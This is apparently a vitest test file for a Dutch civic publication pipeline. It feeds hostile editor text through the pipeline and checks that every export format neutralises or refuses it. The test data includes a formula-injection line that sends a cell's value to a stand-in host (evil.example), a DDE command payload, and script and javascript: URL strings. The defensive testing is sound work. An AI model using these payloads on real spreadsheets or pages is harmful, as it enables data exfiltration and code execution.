import { parse } from 'csv-parse/sync'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import jsonld from 'jsonld'
import { Parser } from 'n3'
import XLSX from 'xlsx'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadConfig, projectRoot } from '../../src/config.js'
import { addAccount } from '../../src/editorial/accounts.js'
import { publicationHashes, verifyChain } from '../../src/editorial/audit-chain.js'
import { openEditorialStore, type EditorialStore } from '../../src/editorial/open-editorial-store.js'
import { publishRevision } from '../../src/editorial/publish-revision.js'
import { recordRevision, type RevisionInput } from '../../src/editorial/record-revision.js'
import { currentRelease } from '../../src/publication/release-store.js'
import { writePublication } from '../../src/publication/write-publication.js'
import { openTestStore } from '../helpers.js'

const agreement = 'assen-2022-2026'
/** Published text an editor could write, each a way to break a format that quoted it naively. */
const explanations = [
  '=HYPERLINK("https://evil.example/?x="&A1,"klik")', '+31 procent meer woningen', '-2+3 is wat de raad zag', '@SUM(A1:A9)',
  '<script>alert(1)</script> en [link](javascript:alert(1)) en "aanhalingstekens", komma\'s; en\nregels',
]
const urls: [string, string][] = [
  ['https://fonts.googleapis.com/css?family=Roboto|Open+Sans', 'https://fonts.googleapis.com/css?family=Roboto%7COpen+Sans'],
  ['https://example.org/a b/{x}?q=<a>^`"', 'https://example.org/a%20b/%7Bx%7D?q=%3Ca%3E%5E%60%22'],
]
const slugs = ['nieuw-jongerenbeleid-met-asser-jeugd', 'pilot-basisbanen-structureel', 'plek-voor-kunstenaars', 'woonvisie-3000-woningen-als-minimum', 'sportactiviteiten-dichtbij-in-de-wijken']

let editorial: EditorialStore
let folder: string
let dir: string
const refused: Record<string, string[]> = {}

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'open-akkoord-hostile-pub-'))
  editorial = await openEditorialStore(join(folder, 'editorial.sqlite'))
  const now = new Date('2026-03-01T09:00:00Z')
  const editor = { account: (await addAccount(editorial, 'Redacteur', 'editor', now)).account, requestId: null, client: null, now }
  const reviewer = { account: (await addAccount(editorial, 'Controleur', 'reviewer', now)).account, requestId: null, client: null, now }
  const input = (slug: string, explanation: string, title: string, url: string): RevisionInput => ({
    kind: 'assessment', subject: { agreement, type: 'action', slug }, status: 'IN_PROGRESS', asOf: '2026-02-01', explanation,
    evidence: [{ title, url, documentDate: null, kind: 'raadsinformatiebrief' }],
  } as RevisionInput)
  for (const [i, explanation] of explanations.entries()) {
    const recorded = await recordRevision(editorial, editor, input(slugs[i]!, explanation, `=cmd|' /C calc'!A0 ${i}`, urls[i % urls.length]![0]))
    if (!recorded.record) throw new Error(JSON.stringify(recorded.userErrors))
    const published = await publishRevision(editorial, reviewer, recorded.record.id)
    if (!published.record) throw new Error(JSON.stringify(published.userErrors))
  }
  const bad: Record<string, [string, string, string]> = {
    bidi: ['Goedgekeurd \u202Eetiurgekuerd\u202C', 'titel', urls[0]![0]],
    nul: ['tekst\u0000verborgen', 'titel', urls[0]![0]],
    long: ['uitleg', 'x'.repeat(10_000), urls[0]![0]],
    javascript: ['uitleg', 'titel', 'javascript:alert(1)'],
    relative: ['uitleg', 'titel', '/Document/1'],
  }
  for (const [name, [explanation, title, url]] of Object.entries(bad)) {
    const outcome = await recordRevision(editorial, editor, input(slugs[0]!, explanation, title, url))
    refused[name] = outcome.record ? [] : outcome.userErrors.map((error) => error.code)
  }
  const store = openTestStore()
  try {
    const config = loadConfig({})
    await writePublication({
      db: store.db, databasePath: config.databasePath, outDir: join(folder, 'publication'), root: projectRoot, baseUrl: 'https://open-akkoord.example.nl',
      publisherUri: config.publisherUri, publisherName: config.publisherName, editorial,
    })
  } finally {
    await store.db.destroy()
  }
  dir = currentRelease(join(folder, 'publication'))
}, 120_000)

afterAll(async () => {
  await editorial.close()
  rmSync(folder, { recursive: true, force: true })
})

const csv = (path: string) => parse(readFileSync(join(dir, path)), { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[]
const startsAFormula = (text: string) => /^[=+\-@\t\r]/.test(text)

describe('the published progress tables', () => {
  it('carry each published revision\'s hash from the editorial chain, which verifies', async () => {
    const hashes = [...(await publicationHashes(editorial)).values()]
    const rows = csv('csv/progress-assessments.csv')
    expect(rows.length).toBe(explanations.length)
    for (const row of rows) expect(hashes).toContain(row.chain_hash)
    expect(await verifyChain(editorial)).toMatchObject({ ok: true })
  })
})

describe('a hostile corpus of published text', () => {
  it('refuses bidi controls, NUL, a 10,000-character title and links that are not http(s)', () => {
    expect(refused).toEqual({ bidi: ['INVALID'], nul: ['INVALID'], long: ['INVALID'], javascript: ['INVALID'], relative: ['INVALID'] })
  })

  it('writes Turtle that n3 parses, with every evidence URL a valid, normalised IRI', () => {
    const quads = new Parser({ format: 'text/turtle' }).parse(readFileSync(join(dir, 'rdf/open-akkoord.ttl'), 'utf8'))
    const urlObjects = quads.filter((q) => q.predicate.value === 'https://schema.org/url' || q.predicate.value === 'http://schema.org/url').map((q) => q.object.value)
    for (const [, normalised] of urls) expect(urlObjects).toContain(normalised)
    for (const iri of urlObjects) expect(iri).not.toMatch(/[\s<>"{}|\\^`]/)
    const texts = quads.filter((q) => q.object.termType === 'Literal').map((q) => q.object.value)
    for (const explanation of explanations) expect(texts).toContain(explanation)
  })

  it('writes JSON-LD that jsonld turns into the same evidence IRIs', async () => {
    const document = JSON.parse(readFileSync(join(dir, 'rdf/open-akkoord.jsonld'), 'utf8'))
    const nquads = await jsonld.toRDF(document, { format: 'application/n-quads' }) as unknown as string
    const quads = new Parser({ format: 'N-Quads' }).parse(nquads)
    const urlObjects = new Set(quads.filter((q) => q.predicate.value.endsWith('schema.org/url')).map((q) => q.object.value))
    for (const [, normalised] of urls) expect(urlObjects.has(normalised)).toBe(true)
  }, 120_000)

  it('neutralises formulas in every CSV as OWASP recommends, and keeps the text whole after the apostrophe', () => {
    const assessments = csv('csv/progress-assessments.csv')
    const evidence = csv('csv/assessment-evidence.csv')
    const commitments = csv('toezeggingen.csv')
    for (const rows of [assessments, evidence, commitments]) {
      for (const row of rows) for (const cell of Object.values(row)) expect(startsAFormula(cell), cell).toBe(false)
    }
    const published = assessments.map((row) => row.explanation)
    for (const explanation of explanations) expect(published).toContain(startsAFormula(explanation) ? `'${explanation}` : explanation)
    expect(evidence.map((row) => row.url)).toEqual(expect.arrayContaining(urls.map(([, normalised]) => normalised)))
  })

  it('keeps the text exact in NDJSON and in the workbook, where no cell is a formula', () => {
    const lines = readFileSync(join(dir, 'ndjson/progress-assessments.ndjson'), 'utf8').trim().split('\n').map((line) => JSON.parse(line) as { explanation: string })
    for (const explanation of explanations) expect(lines.map((line) => line.explanation)).toContain(explanation)
    const workbook = XLSX.read(readFileSync(join(dir, 'open-akkoord.xlsx')), { cellFormula: true })
    for (const name of workbook.SheetNames) {
      const sheet = workbook.Sheets[name]!
      for (const [address, cell] of Object.entries(sheet)) if (!address.startsWith('!')) expect((cell as XLSX.CellObject).f, `${name}!${address}`).toBeUndefined()
    }
  })
})
